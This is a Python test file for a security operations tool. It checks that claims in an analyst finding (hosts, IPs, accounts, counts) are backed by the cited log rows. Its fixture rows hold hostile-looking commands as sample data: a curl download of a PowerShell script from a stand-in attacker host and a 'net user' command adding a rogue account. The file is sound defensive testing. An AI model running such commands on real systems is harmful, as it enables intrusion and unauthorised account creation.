"""What a finding says in its own words is held against the rows it cites."""

from dataclasses import replace

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from soc_tui.analysts.grounding.check_finding import ground
from soc_tui.model.catalog import Column, KqlType
from soc_tui.model.finding import Confidence, Evidence, Finding, Quotation, Severity
from soc_tui.model.rows import Rows

NAMES = ("DeviceName", "AccountName", "UserPrincipalName", "RemoteIP", "RemotePort", "Command")
ROWS = Rows(
    pa.table(
        {
            "DeviceName": ["win-07.corp.example", "dc-01.corp.example"],
            "AccountName": ["alice", "svc_backup"],
            "UserPrincipalName": ["alice@corp.example", "bob@corp.example"],
            "RemoteIP": ["203.0.113.7", "10.0.0.12"],
            "RemotePort": pa.array([443, 4444], pa.int64()),
            "Command": ["curl https://evil.example/a.ps1", "net user mallory2 /add"],
        }
    ),
    tuple(Column(name, KqlType.LONG if name == "RemotePort" else KqlType.STRING) for name in NAMES),
)
HONEST = Finding(
    "Download",
    "Something was fetched.",
    Confidence.HIGH,
    Severity.HIGH,
    evidence=(Evidence("r1", (Quotation("Command", "curl https://evil.example/a.ps1"),)),),
)


def doubts_on(text: str) -> tuple[str, ...]:
    return ground(replace(HONEST, description=text), ROWS).doubts


@pytest.mark.parametrize(
    "text",
    [
        "On win-07 the account alice fetched a.ps1 from evil.example (203.0.113.7:443).",
        "CORP\\alice on WIN-07.corp.example, alice@corp.example, hxxps://evil[.]example/a.ps1",
        "curl.exe is the name of a program, not of a host.",
        "The whole range 10.0.0.0/8 is internal; 127.0.0.1 is the machine itself.",
        "The user logged-on locally, the host-based firewall and the server message block matter.",
        "1 event over port 443; both the SHA-256 and the time are unknown.",
        "443 connections would be a count, but 443 stands in the row.",
        "Größe z.B. Москва: letters of other scripts are no names by themselves.",
    ],
)
def test_what_the_cited_rows_bear_out_or_what_is_no_name_is_not_doubted(text: str) -> None:
    assert doubts_on(text) == ()


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("It then called 198.51.100.3.", "198.51.100.3"),
        ("It then called 198[.]51[.]100[.]3.", "198.51.100.3"),
        ("It then called 203.0.113.77.", "203.0.113.77"),
        ("It reached 2001:db8::bad.", "2001:db8::bad"),
        ("It fetched from worse.example.org.", "worse.example.org"),
        ("It fetched from \u0435vil.example.", "\u0435vil.example"),  # Cyrillic
        ("It called \uff11\uff19\uff18.51.100.3.", "198.51.100.3"),  # wide digits
        ("It called \u6771\u4eac.jp.", "\u6771\u4eac.jp"),
        ("It called 198\u300251\u3002100\u30023", "198.51.100.3"),
        ("It fetched https://evil.example/b.ps1.", "https://evil.example/b.ps1"),
        ("For mallory@corp.example too.", "mallory@corp.example"),
        ("Its SHA-256 is " + "ab" * 32, "ab" * 32),
        ("From there to dc-01.", "dc-01"),  # a host of a row that is not cited
        ("The account svc_backup did it.", "svc_backup"),
        ("Next, host srv-99 was reached.", "srv-99"),  # a host of no row
        ("It was run by user CORP\\mallory2.", "mallory2"),
        ("System.Net.WebClient was used.", "System.Net.WebClient"),
        ("On Windows 10.0.19041.1 it ran.", "10.0.19041.1"),
        ("CVE-2024-3094 is its name.", "CVE-2024-3094"),
        ("It started na\u00efve.exe.", "na\u00efve.exe"),
    ],
)
def test_what_no_cited_row_holds_is_doubted(text: str, named: str) -> None:
    (doubt,) = doubts_on(text)
    assert doubt == f"Its text names «{named}», which is in no cited row."


def test_advice_may_name_portals_but_no_foreign_address() -> None:
    advised = replace(
        HONEST, recommendations=("Look at entra.microsoft.com.", "Block 198.51.100.3")
    )
    assert ground(advised, ROWS).doubts == (
        "Its text names «198.51.100.3», which is in no cited row.",
    )


@pytest.mark.parametrize(
    ("text", "good"), [("1 connection", True), ("2 connections", False), ("1,200 failures", False)]
)
def test_more_things_cannot_be_counted_than_are_cited(text: str, good: bool) -> None:
    assert (doubts_on(text) == ()) is good
    counted = Rows(
        ROWS.table.append_column("FailedCount", pa.array([9, 1200])),
        (*ROWS.columns, Column("FailedCount", KqlType.LONG)),
    )
    assert ground(replace(HONEST, description="1,200 failures"), counted).doubts == (
        "Its text counts or names «1200 failures», which the cited rows do not bear out.",
    )
    both = (*HONEST.evidence, Evidence("r2", (Quotation("DeviceName", "dc-01.corp.example"),)))
    cited = replace(HONEST, description="1,200 failures", evidence=both)
    assert ground(cited, counted).grounded


def test_a_text_too_long_to_check_is_doubted() -> None:
    assert doubts_on("word " * 10_000)[-1].endswith("too many to check.")
    many = " ".join(f"198.51.{number // 250}.{number % 250}" for number in range(1000))
    assert doubts_on(many)[-1].endswith("too many to check.")


def test_the_words_of_a_rule_are_not_held_against_the_rows() -> None:
    told = replace(HONEST, description="Known from worse.example.org.")
    assert ground(told, ROWS, own_words=False).grounded


@settings(deadline=None)
@given(st.text(), st.text())
def test_any_text_is_judged(title: str, description: str) -> None:
    judged = ground(replace(HONEST, title=title, description=description), ROWS)
    assert judged.grounded == (not judged.doubts)
    assert all(doubt.isprintable() for doubt in judged.doubts)
